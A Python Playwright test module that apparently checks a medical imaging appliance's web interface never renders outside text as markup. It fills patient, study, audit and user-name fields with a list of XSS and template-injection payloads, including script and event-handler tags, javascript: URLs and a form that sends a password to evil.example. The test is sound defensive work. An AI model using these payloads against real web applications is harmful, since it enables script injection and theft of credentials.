"""F15: text that came from outside is never markup, in any field, on any page."""

from dataclasses import fields, replace
from datetime import timedelta
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Browser
from sqlalchemy import select

from appliance import accounts, lifecycle
from appliance.studies import PatientAttributes, SeriesAttributes, StudyAttributes
from appliance.tables import WebSession
from pipelines.findings import Analysis, ModelRef
from pipelines.volume import CTVolume
from tests.webui.browser import Reader, needs_chromium, serving
from tests.webui.world import PASSWORD, World

pytestmark = needs_chromium

PAYLOADS = (
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    '"><svg onload=pwned()>',
    "' autofocus onfocus=pwned() x='",
    "</title></textarea></script><script>pwned()</script>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<a href=javascript:pwned()>x</a>",
    "javascript:pwned()",
    "{{ cycler.__init__.__globals__.os }}${pwned()}#{pwned()}",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example/><form action=//evil.example><input name=password>",
    "<<b>script>pwned()//<</b>/script>",
    "\u202e<x>\u2028pwned()\u2029",
)


def everywhere(kind: type, payload: str):
    """An object whose every text field holds the payload."""
    return kind(**{field.name: payload for field in fields(kind)})


def fill(world: World, payload: str, number: int, chest: tuple[CTVolume, Analysis]) -> list[int]:
    """A study in each kind of state with the payload in every text that comes from outside."""
    volume, found = chest
    texts = {
        "patient": everywhere(PatientAttributes, payload),
        "study": everywhere(StudyAttributes, payload),
        "series": everywhere(SeriesAttributes, payload),
        "source_ae": payload,
    }
    ready, rejected, failed, receiving = (
        world.receive(f"{payload}{number}.{kind}", **texts) for kind in range(4)
    )
    hostile = replace(
        found,
        warnings=(payload,),
        engine=payload,
        models=(ModelRef(payload, payload, payload, payload),),
    )
    world.finish(ready, volume, hostile)
    world.reject(rejected, payload, {f"{payload}{number}.1.series": payload})
    lifecycle.fail(world.database, world.claim(failed), reason=payload, transient=False)
    return [ready, rejected, failed, receiving]


@pytest.mark.timeout(600)
def test_no_text_of_a_study_ever_runs(
    browser: Browser, world: World, chest: tuple[CTVolume, Analysis]
):
    studies = {payload: fill(world, payload, i, chest) for i, payload in enumerate(PAYLOADS)}

    with serving(world.app()) as address:
        reader = Reader.signed_in(browser, address)
        for page in (1, 2):
            reader.page.goto(f"{address}/?page={page}")
            reader.page.wait_for_selector("tbody tr")
            for summary in reader.page.locator("summary").all():
                summary.click()
        seen = ""
        for payload, rows in studies.items():
            for study_id in rows:
                reader.page.goto(f"{address}/studies/{study_id}")
                if study_id == rows[0]:
                    reader.mark("volume")
                    reader.page.hover(".panel .models li")
                seen = reader.page.inner_text(".banner")
                assert visible(payload) in visible(seen)

        reader.frames()
        assert reader.troubles == []
        reader.page.close()


@pytest.mark.timeout(600)
def test_no_name_of_a_person_ever_runs(browser: Browser, world: World):
    """Whoever may sign in is in the audit, on their own pages and on a locked one."""
    names = [one for one in PAYLOADS if one.isprintable() and len(one) <= accounts.NAME_LIMIT]
    for name in names:
        with world.database.transaction() as db:
            role = accounts.Role.ADMINISTRATOR
            accounts.add(db, name, password=PASSWORD, role=role, actor=name)

    with serving(world.app()) as address:
        reader = Reader.signed_in(browser, address, name=names[1])
        for path in ("/audit", "/account", "/fetch", "/"):
            reader.page.goto(f"{address}{path}")
            assert names[1] in reader.page.inner_text("body")
        for name in names:
            reader.page.goto(f"{address}/audit?{urlencode({'person': name, 'study': name})}")
            reader.page.goto(f"{address}/audit?{urlencode({'person': name})}")
            assert name in reader.page.inner_text("tbody")
        with world.database.transaction() as db:
            for row in db.scalars(select(WebSession)):
                row.active_at -= timedelta(hours=1)
        reader.page.click("a.brand")
        reader.page.wait_for_selector("#name")

        # The browser itself reports the searches that were refused.
        assert [said for said in reader.troubles if "400" not in said] == []
        reader.page.close()


def visible(text: str) -> str:
    """What is left of a text when white space and a name's carets do not count."""
    return "".join(text.replace("^", "").split()).replace("=", "")
